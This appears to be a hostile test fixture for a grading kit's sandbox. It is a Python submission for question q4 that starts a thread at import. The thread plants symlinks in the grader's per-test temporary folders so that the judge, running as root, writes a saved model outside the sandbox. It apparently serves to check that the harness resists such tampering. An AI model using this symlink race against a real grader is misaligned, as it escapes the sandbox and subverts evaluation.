"""A q4 whose load_encoder ignores its argument, with a thread started at import that plants, in every test's tmp_path of the
judge's scratch folder it can write, a link `other-bert` to a folder outside the sandbox: when the
judge then saves a model to tmp_path / "other-bert" (a public test does), it would write, as root,
wherever the link points.

question: q4
base: load_encoder_ignores_argument
expect: failed
message: tests failed
victim: /tmp/kit-hostile-victim
advice: threading
"""

import glob as _glob
import os as _os
import threading as _threading
import time as _time


def _plant_links() -> None:
    done = set()
    deadline = _time.monotonic() + 120
    while _time.monotonic() < deadline:
        # The grader's work folder (`kit-grade-*` in the temporary folder); never a recursive search, which
        # would walk a virtual environment bound under /tmp and miss the moment the judge opens tmp_path.
        found = _glob.glob("/tmp/kit-grade-*/q4.tmp/test_*") + _glob.glob("/tmp/kit-grade-*/*/q4.tmp/test_*")
        for folder in found:
            if folder not in done:
                try:
                    _os.symlink("/tmp/kit-hostile-victim", folder + "/other-bert")
                    done.add(folder)
                except FileExistsError:
                    done.add(folder)
                except OSError:
                    pass
        _time.sleep(0.005)


_threading.Thread(target=_plant_links, daemon=True).start()
